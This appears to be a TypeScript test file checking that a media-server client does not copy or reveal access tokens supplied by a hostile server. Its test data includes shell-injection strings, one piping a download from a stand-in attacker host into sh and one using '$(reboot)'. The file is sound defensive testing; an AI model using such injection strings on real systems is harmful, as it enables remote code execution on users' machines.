import assert from 'node:assert/strict';
import { SourceDocuments } from '../../src/sources/sourceDocuments.ts';
import { toSourceUri } from '../../src/sources/sourceUri.ts';
import { Problem } from '../../src/workbench/problem.ts';
import { control, Fixture, simulator } from '../host/fixture.ts';

const { attic } = simulator.servers;

describe('The owner of a hostile server', () => {
  let fixture: Fixture;
  beforeEach(async () => {
    await control.reset();
    fixture = new Fixture();
    await fixture.addLivingRoom();
  });
  afterEach(() => fixture.dispose());

  describe('who wants a command in a shell', () => {
    const source = { scheme: 'server', identifier: attic.machineIdentifier } as const;
    const uri = toSourceUri({ machineIdentifier: simulator.servers.livingRoom.machineIdentifier, source });

    for (const token of [
      "x'; curl https://evil.example | sh #",
      '$(reboot)',
      'a b c d e f g h',
      'line\nbreak',
      'short',
    ]) {
      it(`does not have ${JSON.stringify(token)} copied or revealed as the token of a source`, async () => {
        await control.addFault('livingRoom', { fault: { kind: 'token', token }, path: '/security/resources' });
        const documents = new SourceDocuments(fixture.directory, fixture.access);
        await documents.load(uri);
        // Reveal and Copy take what they show from here.
        assert.throws(() => documents.tokensOf(uri), Problem);
        const { text = '' } = documents.answerOf(uri) ?? {};
        assert.equal(JSON.parse(text).MediaContainer.Device.accessToken, 'not a token');
        documents.dispose();
      });
    }
  });
});
